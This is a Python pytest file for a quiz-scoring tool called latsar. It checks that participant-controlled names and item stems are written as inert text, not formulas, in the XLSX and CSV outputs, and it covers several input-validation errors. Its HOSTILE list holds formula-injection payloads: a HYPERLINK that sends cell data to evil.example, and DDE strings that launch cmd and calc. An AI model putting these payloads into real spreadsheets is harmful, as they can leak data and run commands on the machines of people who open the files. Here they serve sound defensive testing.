"""No formula injection (issue 12, item 4): participant names that participants control reach every
spreadsheet and CSV latsar writes as text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from latsar.cli import main
from latsar.text.formulas import FORMULA_STARTS, defused, restored

from score_sheets import perfect, template_rows, write_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "=cmd|' /C calc'!A0", "+62 811 2345", "-1+1",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]


def hostile_rows(mini_key) -> list[list[str]]:
    sheets = [perfect(mini_key, mini_key.codes[n % 2], participant=f"P-{n:02d}") for n in range(len(HOSTILE))]
    rows = template_rows(mini_key, sheets)
    for n, name in enumerate(HOSTILE, start=1):
        rows[n][1] = name
    rows[1][0] = "=1+1"  # a participant id typed as a formula
    return rows


def test_hostile_names_are_text_in_every_score_file(mini: Path, mini_key, capsys: pytest.CaptureFixture) -> None:
    write_csv(mini.parent / "jawaban.csv", hostile_rows(mini_key))
    assert main(["score", "kuis", "jawaban.csv"]) == 0
    folder = mini.parent / "build" / "scores" / "kuis"
    book = openpyxl.load_workbook(folder / "hasil.xlsx")
    sheet = book["scores"]
    names = [row[1] for row in sheet.iter_rows(min_row=2)]
    read = sorted(name.strip() for name in HOSTILE)  # the readers strip blanks around a cell
    assert sorted(c.value for c in names) == read
    assert {c.data_type for c in names} == {"s"}  # strings, never formulas ("f")
    assert sheet.cell(2, 1).value == "=1+1" and sheet.cell(2, 1).data_type == "s"
    with open(folder / "hasil.xlsx", "rb") as raw:
        import zipfile

        xml = zipfile.ZipFile(raw).read("xl/worksheets/sheet2.xml")
    assert b"<f>" not in xml
    rows = list(csv.reader(io.StringIO((folder / "scores.csv").read_text("utf-8-sig"))))
    for row in rows[1:]:
        assert not row[0].startswith(FORMULA_STARTS) and not row[1].startswith(FORMULA_STARTS), row
    assert sorted(restored(row[1]) for row in rows[1:]) == read
    # latsar reads its own scores.csv back (as a pre-test) with the names as they were.
    assert main(["score", "kuis", "jawaban.csv", "--pre", str(folder / "scores.csv"), "--out", "two"]) == 0
    assert "over 8 participants" in capsys.readouterr().out


def test_defused_cells() -> None:
    assert [defused(v) for v in ("=1", "-2", "ok", "", 3, -1.5)] == ["'=1", "'-2", "ok", "", 3, -1.5]
    assert restored("'=1") == "=1" and restored("'apostrophe") == "'apostrophe"


def test_exported_csv_and_key_cells_are_defused(mini: Path, capsys: pytest.CaptureFixture) -> None:
    items = mini / "items" / "mini.yaml"
    text = items.read_text()
    first_stem = next(line for line in text.splitlines() if "stem:" in line)
    items.write_text(text.replace(first_stem, first_stem.split("stem:")[0] + 'stem: "=1+1 adalah …"', 1))
    assert main(["export", "kuis", "curriculum", "-f", "csv", "--out", "build"]) == 0
    rows = list(csv.reader(io.StringIO((mini.parent / "build" / "exports" / "kuis" / "items.csv")
                                      .read_text("utf-8-sig"))))
    stems = [row[5] for row in rows[1:]]
    assert "'=1+1 adalah …" in stems
    notes = (mini.parent / "build" / "exports" / "kuis" / "notes.txt").read_text()
    assert "written with a leading '" in notes


def test_a_nul_in_a_participant_name_is_located(mini: Path, mini_key, capsys: pytest.CaptureFixture) -> None:
    rows = template_rows(mini_key, [perfect(mini_key, mini_key.codes[0])])
    rows[1][1] = "Bud\x00i"
    write_csv(mini.parent / "jawaban.csv", rows)
    assert main(["score", "kuis", "jawaban.csv"]) == 2
    assert capsys.readouterr().err.splitlines()[0] == (
        "jawaban.csv:2:2: control character U+0000 in the text; retype the cell (such characters come with text "
        "pasted from other programs)")
    assert not (mini.parent / "build").exists()


def test_an_answer_formula_without_a_saved_result_is_located(mini: Path, mini_key,
                                                             capsys: pytest.CaptureFixture) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in template_rows(mini_key, [perfect(mini_key, mini_key.codes[0])]):
        sheet.append(row)
    sheet["D2"] = '=IF(1,"A","B")'  # openpyxl saves no result: what a script-made workbook holds
    book.save(mini.parent / "jawaban.xlsx")
    assert main(["score", "kuis", "jawaban.xlsx"]) == 2
    assert capsys.readouterr().err.splitlines()[0] == (
        "jawaban.xlsx:2:4: the cell holds a formula (=IF(1,\"A\",\"B\")) whose result was never saved; open the "
        "file in Excel or LibreOffice and save it, or paste values only")


def test_two_cohorts_never_share_a_file(mini: Path, mini_key, capsys: pytest.CaptureFixture) -> None:
    from latsar.score.feedback import slug

    write_csv(mini.parent / "jawaban.csv", template_rows(mini_key, [perfect(mini_key, c, f"P-{n}")
                                                                  for n, c in enumerate(mini_key.codes)]))
    assert main(["score", "kuis", "jawaban.csv", "--cohort", "Angkatan XII", "--update-bank"]) == 0
    capsys.readouterr()
    assert main(["score", "kuis", "jawaban.csv", "--cohort", "angkatan-xii", "--update-bank"]) == 2
    assert capsys.readouterr().err.strip() == (
        "curriculum/stats/kuis-angkatan-xii.yaml: holds the statistics of cohort 'Angkatan XII', whose name gives "
        "the same file as 'angkatan-xii'; spell the same cohort the same way (--cohort), or give another cohort a "
        "name that differs in more than case and punctuation")
    # Without statistics in the bank the results folder is guarded the same way.
    (mini / "stats" / "kuis-angkatan-xii.yaml").unlink()
    assert main(["score", "kuis", "jawaban.csv", "--cohort", "Angkatan-XII"]) == 2
    assert capsys.readouterr().err.strip() == (
        "build/scores/kuis-angkatan-xii: holds the results of cohort 'Angkatan XII', whose name gives the same "
        "folder as 'Angkatan-XII'; spell the same cohort the same way (--cohort), or give another cohort a name "
        "that differs in more than case and punctuation")
    # Names in other scripts keep a hash of themselves instead of all becoming "cohort".
    assert slug("الدفعة ١") != slug("الدفعة ٢") and slug("الدفعة ١").startswith("cohort-")
    assert slug("Angkatan XII") == "angkatan-xii"


@pytest.mark.parametrize("percent", ["140", "-5", "nan"])
def test_a_pre_test_percent_outside_0_to_100_is_located(percent: str, mini: Path, mini_key,
                                                       capsys: pytest.CaptureFixture) -> None:
    write_csv(mini.parent / "jawaban.csv", template_rows(mini_key, [perfect(mini_key, mini_key.codes[0])]))
    write_csv(mini.parent / "pre.csv", [["participant", "percent"], ["P-001", percent]])
    assert main(["score", "kuis", "jawaban.csv", "--pre", "pre.csv"]) == 2
    assert capsys.readouterr().err.strip() == (
        f"pre.csv:2:2: percent {percent} is not between 0 and 100; use the scores.csv that `latsar score` wrote "
        "for the pre-test")
